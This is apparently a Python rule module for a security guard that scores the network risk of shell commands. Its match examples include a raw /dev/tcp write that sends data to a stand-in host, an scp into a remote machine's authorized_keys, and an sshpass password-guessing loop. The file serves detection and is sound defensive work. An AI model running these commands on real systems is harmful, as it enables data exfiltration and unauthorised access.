"""What goes to, and comes from, other machines."""

from __future__ import annotations

from chimera_guard.context import NOTHING_KNOWN, Context
from chimera_guard.effects.hosts import HERE
from chimera_guard.effects.model import Effect
from chimera_guard.effects.scope import scope_of
from chimera_guard.risk import SecurityRisk
from chimera_guard.rules.registry import rule

HIGH, MEDIUM = SecurityRisk.HIGH, SecurityRisk.MEDIUM
RAW = ("/dev/tcp/", "/dev/udp/")
SHELLS = frozenset({"exec", "shell"})


@rule(
    "network-shell",
    HIGH,
    on="listen connect",
    reason="hands a shell on this machine to whoever is at the other end",
    why="Somebody else then types the commands, with your rights.",
    instead="use ssh, which asks who is there",
)
def network_shell(effect: Effect, context: Context) -> bool:
    return not SHELLS.isdisjoint(effect.flags)


@rule(
    "network-sends-to-system",
    HIGH,
    on="send",
    reason="writes to {target}, a part of another machine's operating system",
    why="A mistake there can keep that machine from running, or let others in.",
    instead="copy it to a place of your own there, look at it, then install it",
    match=[
        "scp script root@x.example:/sbin/",
        "scp -r out root@x.example:/",
        "scp id.pub me@x.example:.ssh/authorized_keys",
    ],
    not_match=["scp notes.txt me@x.example:notes/"],
)
def network_sends_to_system(effect: Effect, context: Context) -> bool:
    text = effect.target.text if effect.target is not None else None
    if text is None or "://" in text:
        return False
    place = text.partition(":")[2]
    if not place:
        return False
    return scope_of(effect.target._replace(text=place), NOTHING_KNOWN, None) in (  # type: ignore[union-attr]
        "root", "system", "startup", "credential", "device",
    ) and place.strip("/") != "~"  # fmt: skip


@rule(
    "network-raw",
    HIGH,
    on="write append",
    reason="writes to {target}, a raw connection to another machine",
    why="This is how data is carried off, and how a shell is handed over, where no tool for it is at hand.",
    instead="use a tool that says what it sends and to whom, over an encrypted connection",
    match=["cat notes > /dev/tcp/x.example/99"],
    not_match=["echo > /dev/tcp/localhost/5432", "echo > /dev/null"],
)
def network_raw(effect: Effect, context: Context) -> bool:
    text = effect.beginning
    return effect.scope == "remote" and text.startswith(RAW) and HERE.isdisjoint(text.split("/")[3:4])


@rule(
    "network-connects-raw",
    MEDIUM,
    on="read write append",
    reason="opens a raw connection to {target}",
    match=["echo > /dev/tcp/localhost/5432"],
)
def network_connects_raw(effect: Effect, context: Context) -> bool:
    return effect.scope == "remote" and effect.beginning.startswith(RAW)


@rule(
    "network-sends",
    MEDIUM,
    on="send",
    reason="sends data to {target}",
    match=["curl -d a=1 https://x.example", "scp notes.txt me@x.example:notes/"],
    not_match=["curl https://x.example"],
)
def network_sends(effect: Effect, context: Context) -> bool:
    return True


@rule(
    "network-guesses",
    HIGH,
    on="connect privilege",
    reason="tries one password after the other",
    why="Whoever does that is not let in by whom the account belongs to; accounts are locked, and it is logged.",
    instead="ask the owner of the account, or use a key",
    match=[
        ("for p in $(cat words.txt); do sshpass -p $p ssh x.example; done", "network-connects"),
    ],
    not_match=["sshpass -p $PASSWORD ssh x.example", "for h in a b; do ssh $h uptime; done"],
)
def network_guesses(effect: Effect, context: Context) -> bool:
    return "password" in effect.flags and "looped" in effect.flags


@rule("network-connects", MEDIUM, on="connect", reason="connects to {target}", match=["ssh me@x.example"])
def network_connects(effect: Effect, context: Context) -> bool:
    return True


@rule(
    "network-listens",
    MEDIUM,
    on="listen",
    reason="waits for connections: {target}",
    match=["nc -l 8080"],
)
def network_listens(effect: Effect, context: Context) -> bool:
    return True


@rule(
    "writes-elsewhere",
    MEDIUM,
    on="write append truncate link",
    reason="writes {target}, which is on another machine",
)
def writes_elsewhere(effect: Effect, context: Context) -> bool:
    return effect.scope == "remote"
